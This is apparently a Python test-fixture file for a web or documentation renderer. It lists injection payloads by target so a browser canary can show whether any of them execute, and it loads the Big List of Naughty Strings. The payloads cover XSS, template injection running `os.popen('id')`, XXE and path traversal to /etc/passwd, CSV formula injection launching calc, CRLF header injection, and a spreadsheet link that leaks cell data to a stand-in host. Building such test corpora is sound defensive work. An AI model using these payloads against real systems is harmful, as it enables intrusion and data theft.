"""Text that must stay text: our own payloads by what they aim at, and the Big List of Naughty Strings.

Each payload that can run sets `window.__canary`, so that a browser tells when one did.
"""

from __future__ import annotations

import json
from pathlib import Path

_HERE = Path(__file__).parent
RUN = "window.__canary=1"
FOREIGN = "evil.invalid"

OURS: dict[str, tuple[str, ...]] = {
    "element": (
        f"<script>{RUN}</script>",
        f"<ScRiPt\n>{RUN}</sCrIpT\t>",
        f"<script src=//{FOREIGN}/x.js></script>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f'<base href="https://{FOREIGN}/">',
        f'<meta http-equiv=refresh content="0;url=https://{FOREIGN}/">',
        f'<link rel=stylesheet href="https://{FOREIGN}/x.css">',
        f"<object data=https://{FOREIGN}/x></object><embed src=https://{FOREIGN}/x>",
        f"<form action=https://{FOREIGN}/><button>送</button></form>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    ),
    "handler": (
        f"<img src=x onerror={RUN}>",
        f"<details open ontoggle={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<a onmouseover={RUN} style=position:fixed;inset:0>x</a>",
    ),
    "attribute": (
        f'" onfocus="{RUN}" autofocus tabindex="0" x="',
        f"' onmouseover='{RUN}' x='",
        f"x onpointerenter={RUN} y",
        f'"><svg onload={RUN}>',
        f"'/><img src=x onerror={RUN}>",
        "` `` &quot; &#34; &#x22;",
    ),
    "ending": (
        f"</script><script>{RUN}</script>",
        f"</title></head><body onload={RUN}>",
        f"</style></textarea></noscript></template><img src=x onerror={RUN}>",
        f"--><img src=x onerror={RUN}><!--",
        f"]]><img src=x onerror={RUN}><![CDATA[",
    ),
    "template": (
        "{{7*7}}",
        "{% raw %}{% endraw %}{# #}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{0.__class__} {root} {n} %(x)s %s ${7*7} #{7*7}",
        "@@body@@ @@root@@ @@title@@ @@site@@ @@no-such@@",
        "<%= 7*7 %><?php echo 7*7 ?>",
    ),
    "json": (
        f'"}}]}}</script><script>{RUN}</script>',
        '\\u003cscript\\u003e","__proto__":{"polluted":1},"x":"',
        "__proto__",
        "constructor",
        "\u2028\u2029<!--<script>",
    ),
    "svg": (
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>",
        f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>#x'/></svg>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    ),
    "css": (
        f"}}</style><style>body{{background:url(https://{FOREIGN}/b)}}",
        f"red;background:url(//{FOREIGN}/c)",
        f"@import url(https://{FOREIGN}/i.css);",
        "expression(alert(1)) \\3c style",
    ),
    "address": (
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"java\nscript:{RUN}",
        f"\x01javascript:{RUN}",
        f"&#106;avascript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        "vbscript:msgbox(1)",
        f"//{FOREIGN}/",
        f"\\\\{FOREIGN}\\share",
        f"https:{FOREIGN}",
        f"https://user:pw@{FOREIGN}/",
        "../../../../etc/passwd",
        "file:///etc/passwd",
        "blob:https://x/1",
    ),
    "bidi": (
        "甲\u202e乙\u2066丙",
        "\u202dab\u202c\u2069\u200f\u200e\u061c",
        "a\u200bb\u2060c\ufeffd\U000e0041",
        "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    ),
    "formula": (
        "=cmd|'/C calc'!A0",
        "+1+cmd|'/C calc'!A0",
        "-2+3+cmd|'/C calc'!A0",
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        f'=HYPERLINK("https://{FOREIGN}/?"&A1,"详情")',
        "＝1+1",
    ),
    "markdown": (
        f"[点我](javascript:{RUN})",
        f"![图](https://{FOREIGN}/p.png)",
        f'[点我](https://x.invalid "\\" onmouseover={RUN} \\"")',
        f"<javascript:{RUN}>",
        f"[a]: javascript:{RUN}\n[a]",
        f"# 标题 {{ onclick={RUN} }}",
        "!!! note\n    x",
        '--8<-- "mkdocs.yml"',
        "```mermaid\ngraph TD\n```",
        f"`x` <div markdown=1 onclick={RUN}>",
        f"::: x {{ .x onclick={RUN} }}",
        "| a |\n|---|\n| <script> |",
    ),
    "control": (
        "\x00\x01\x08\x0b\x0c\x1b[2J\x7f\x85",
        "a\r\nSet-Cookie: x=1\r\n\r\n<b>",
        "一行\r另一行",
        "\ufffe\uffff\ufdd0",
    ),
}
"""Payloads by what they aim at."""


def naughty() -> list[str]:
    """Return the 515 strings of the Big List of Naughty Strings (tests/corpora/NOTICE)."""
    strings: list[str] = json.loads((_HERE / "corpora/naughty-strings.json").read_text("utf-8"))
    assert len(strings) == 515
    return strings
